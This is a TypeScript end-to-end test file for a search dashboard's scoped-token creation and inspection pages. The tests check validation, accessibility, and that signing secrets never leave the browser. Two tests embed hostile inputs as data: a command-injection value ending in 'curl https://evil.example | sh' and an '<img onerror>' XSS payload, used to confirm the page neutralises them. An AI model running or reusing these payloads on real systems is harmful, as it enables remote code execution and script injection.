import type { CreateKeyResponse } from "@findling/client";
import { SearchClient } from "@findling/client";
import { signToken } from "@findling/client/token";
import { axeFaults, keepSecret } from "@findling/testkit";
import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { useDashboardStage } from "./dashboard-stage.js";

const inAnHour = (): number => Math.floor(Date.now() / 1_000) + 3_600;

/** Scoped tokens: made and inspected. */
export function tokenCases(): void {
  const stage = useDashboardStage();

  async function searchKey(name: string): Promise<CreateKeyResponse & { readonly signingSecret: string }> {
    const made = await stage().client.createKey({
      ...{ name, type: "search", restrictions: { indexes: ["tenants"] } },
    });
    const signingSecret = made.signingSecret ?? "";
    keepSecret(made.secret);
    keepSecret(signingSecret);
    return { ...made, signingSecret };
  }

  async function tenants(): Promise<void> {
    const index = stage().client.index("tenants");
    await index.saveSettings({ indexTime: { partitionKey: "tenant" } });
    await index.saveAll(
      ["acme", "acme", "bolt"].map((tenant, at) => ({ objectID: `${at}`, title: "shoe", tenant, year: at })),
    );
  }

  /** Everything that the page has sent. */
  function sentBy(page: Page): string[] {
    const sent: string[] = [];
    page.on("request", (request) => sent.push(request.url() + (request.postData() ?? "")));
    return sent;
  }

  describe("tokens (19)", () => {
    test("one is made with all restrictions, works, and its secret stays in the page", async () => {
      await tenants();
      const { key, signingSecret } = await searchKey("of tenants");
      const { page, faults } = await stage().signedIn("/keys");
      const sent = sentBy(page);
      await page.getByRole("link", { name: "Token of of tenants" }).click();
      await page.getByLabel("Search key").waitFor();
      expect(await page.getByLabel("Search key").inputValue()).toBe(key.id);
      await page.getByText("Its restrictions bind the token, too: tenants.").waitFor();
      await page.getByLabel("Signing secret").fill(signingSecret);
      await page.getByLabel("Lasts").selectOption("1 day");
      await page.getByLabel("Partitions").fill("acme\nzebra");
      await page.getByLabel("Filters").fill('{"attribute":"year","op":"range","gte":1}');
      await page.getByLabel("Indexes").fill("tenants, live-*");
      await page.getByLabel("Whose searches").fill("user-17");
      await page.keyboard.press("Enter");
      await page.getByRole("heading", { name: "The token is made" }).waitFor();
      expect(await page.evaluate("document.activeElement.textContent")).toBe("The token is made");
      expect(await page.locator(".claims dd").allInnerTexts()).toEqual([
        expect.stringMatching(/^ends .+ \(in 24 hours\)$/),
        "only tenants or live-*",
        "only records of acme or zebra",
        "only records with year from 1",
        "searches for user-17",
      ]);
      const [token = "", ...samples] = await page.locator(".made-token pre").allInnerTexts();
      keepSecret(token);
      const search = new SearchClient({ host: stage().host, key: token }).index("tenants").search({ q: "" });
      expect((await search).hits.map(({ objectID }) => objectID)).toEqual(["1"]);
      const [curl, script, widget, server, shell] = samples;
      for (const sample of [curl, script, widget]) expect(sample).toContain(token);
      expect(curl).toContain(`${stage().host}/1/indexes/tenants/search`);
      expect(server).toContain(`+ 86400;`);
      expect(shell).toContain(`--claims '{"indexes":["tenants","live-*"],"partitions":["acme","zebra"]`);
      expect(await axeFaults(page)).toEqual([]);
      expect(sent.join("\n")).not.toContain(signingSecret);
      expect(await page.evaluate("JSON.stringify({ ...localStorage, ...sessionStorage })")).toBe("{}");
      await page.getByLabel("Partitions").fill("bolt");
      await page.getByRole("heading", { name: "The token is made" }).waitFor({ state: "detached" });
      expect(faults).toEqual([]);
    });

    test("bad input is named beside its field, which has the focus", async () => {
      const { signingSecret, secret } = await searchKey("of faults");
      const { page } = await stage().signedIn("/keys/token");
      const make = page.getByRole("button", { name: "Make the token" });
      const fault = async (label: string): Promise<string> => {
        const field = page.getByLabel(label);
        await page.locator("[aria-invalid=true]").waitFor();
        expect(await field.getAttribute("aria-invalid")).toBe("true");
        expect(await page.evaluate("document.activeElement.ariaInvalid")).toBe("true");
        return page.locator(".field:has([aria-invalid=true]) .field-fault").innerText();
      };
      await make.click();
      expect(await fault("Search key")).toMatch(/^Choose the search key/);
      await page.getByLabel("Search key").selectOption({ label: await optionOf(page, "of faults") });
      await make.click();
      expect(await fault("Signing secret")).toMatch(/^Paste the signing secret/);
      await page.getByLabel("Signing secret").fill(secret);
      await page.keyboard.press("Enter");
      expect(await fault("Signing secret")).toMatch(/^This is a key\./);
      await page.getByLabel("Signing secret").fill("another secret");
      await make.click();
      expect(await fault("Signing secret")).toBe("This is not the signing secret of of faults.");
      await page.getByLabel("Signing secret").fill(signingSecret);
      await page.getByLabel("Filters").fill('{"attribute":"year",}');
      await make.click();
      expect(await fault("Filters")).toMatch(/^This is not JSON: .+ \(line 1, column 21\)\.$/);
      await page.getByLabel("Filters").fill('[{"attribute":"year","op":"like"}]');
      await make.click();
      expect(await fault("Filters")).toMatch(/claims\.filters\[0\]/);
      await page.getByLabel("Filters").fill("");
      await page.getByLabel("Indexes").fill("a*b");
      await make.click();
      expect(await fault("Indexes")).toMatch(/claims\.indexes\[0\], "a\*b"/);
      await page.getByLabel("Indexes").fill("");
      await page.getByLabel("Lasts").selectOption("until a date");
      await make.click();
      expect(await fault("Until")).toBe("Say until when, with date and time.");
      await page.getByLabel("Until").fill("2020-01-31T12:00");
      await make.click();
      expect(await fault("Until")).toMatch(/^It has expired/);
      await page.getByLabel("Lasts").selectOption("1 hour");
      await make.click();
      await page.getByText("It sees all that the key of faults sees").waitFor();
    });

    test("the page says so where browsers do not sign", async () => {
      const { key } = await searchKey("of plain pages");
      const { page } = await stage().signedIn(`/keys/token?key=${key.id}`, {
        prepareFresh: (context) =>
          context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
      });
      await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
      expect(await page.locator("pre").last().innerText()).toContain(
        `--key-id '${key.id}' --expires-in 3600s`,
      );
    });

    test("an address cannot put commands into the code that is offered to copy", async () => {
      await searchKey("of addresses");
      const attack = "x > /dev/null\ncurl https://evil.example | sh #";
      const { page } = await stage().signedIn(`/keys/token?key=${encodeURIComponent(attack)}`, {
        prepareFresh: (context) =>
          context.addInitScript("Object.defineProperty(window, 'isSecureContext', { value: false })"),
      });
      await page.getByRole("heading", { name: "This page cannot sign here" }).waitFor();
      const code = await page.locator("pre").allInnerTexts();
      expect(code.join("\n")).not.toContain("evil.example");
      expect(code.at(-1)).toContain("--key-id 'THE_ID_OF_THE_KEY' --expires-in");
    });

    test("an address that names no search key chooses none", async () => {
      await searchKey("of addresses");
      const { page } = await stage().signedIn("/keys/token?key=nobody");
      expect(await page.getByLabel("Search key").inputValue()).toBe("");
      await page.getByLabel("Signing secret").fill("a-secret-of-nobody");
      await page.getByRole("button", { name: "Make the token" }).click();
      await page.getByText("Choose the search key that the token narrows.").waitFor();
    });

    test("one is inspected: key, claims, expiry, signature", async () => {
      const { key, signingSecret } = await searchKey("of inspections");
      const claims = { exp: inAnHour(), partitions: ["acme"], filters: [] };
      const token = await signToken({ id: key.id, signingSecret }, claims);
      keepSecret(token);
      const { page, faults } = await stage().signedIn("/keys/inspect");
      const sent = sentBy(page);
      await page.getByLabel("Token", { exact: true }).fill(` ${token}\n`);
      await page.getByText("This server takes the token.").waitFor();
      await page.getByText("only records of acme").waitFor();
      await page.getByText(/^ends .+ \(in 60 minutes\)$/).waitFor();
      await page.getByText("of inspections", { exact: true }).waitFor();
      expect(await page.getByText("The pasted secret").count()).toBe(0);
      await page.getByLabel("Signing secret").fill("another");
      await page.getByText("The pasted secret has not signed this token.").waitFor();
      await page.getByLabel("Signing secret").fill(signingSecret);
      await page.getByText("The pasted secret has signed this token.").waitFor();
      expect(await axeFaults(page)).toEqual([]);
      await stage().client.revokeKey(key.id);
      await page.getByLabel("Token", { exact: true }).fill("");
      await page.getByRole("heading", { name: "Claims" }).waitFor({ state: "detached" });
      await page.getByLabel("Token", { exact: true }).fill(token);
      await page.getByText("The key of inspections is revoked, and all its tokens with it.").waitFor();
      expect(sent.join("\n")).not.toContain(signingSecret);
      expect(faults).toEqual([]);
    });

    test("all that is wrong is named, and hostile texts stay texts", async () => {
      const attack = "<img src=x onerror=attacked()>";
      const { key } = await searchKey(attack);
      const claims = { exp: 1_700_000_000, partitions: [attack], [attack]: attack };
      const token = await signToken({ id: key.id, signingSecret: "another" }, claims);
      const { page, faults } = await stage().signedIn("/keys/inspect", { width: 320, colorScheme: "dark" });
      await page.getByLabel("Token", { exact: true }).fill(token);
      const refusals = page.locator(".notice li");
      await refusals.first().waitFor();
      expect(await refusals.allInnerTexts()).toEqual([
        expect.stringMatching(/^It has expired/),
        expect.stringContaining(attack),
        expect.stringMatching(/^Its signature is wrong/),
      ]);
      await page.getByText("ended 14 Nov 2023").waitFor();
      expect(await page.locator("main :is(iframe, img, script)").count()).toBe(0);
      expect(await page.evaluate("document.documentElement.scrollWidth - innerWidth")).toBe(0);
      expect(await axeFaults(page)).toEqual([]);
      const unknown = await signToken({ id: "nobody", signingSecret: "s" }, { exp: inAnHour() });
      await page.getByLabel("Token", { exact: true }).fill(unknown);
      await page.getByText("This server has no key with the id that the token names.").waitFor();
      await page.getByText("They narrow nothing").waitFor();
      await page.getByLabel("Token", { exact: true }).fill("no token");
      await page.getByText("It does not have three parts with dots between them.").waitFor();
      expect(faults).toEqual([]);
    });

    test("a session that has ended leads to sign-in, and the secret is gone", async () => {
      const { key, signingSecret } = await searchKey("of sessions");
      const opened = await stage().signedIn(`/keys/token?key=${key.id}`);
      const { page } = opened;
      await page.getByLabel("Signing secret").fill(signingSecret);
      await stage().endSession(opened);
      await page.getByRole("button", { name: "Make the token" }).click();
      await page.getByLabel("Admin key").waitFor();
      expect(await page.content()).not.toContain(signingSecret);
      expect(page.url()).toContain(`/keys/token?key=${key.id}`);
    });
  });
}

/** The whole label of the key of a name. */
async function optionOf(page: Page, name: string): Promise<string> {
  const labels = await page.getByLabel("Search key").locator("option").allInnerTexts();
  return labels.find((label) => label.startsWith(name)) ?? "";
}
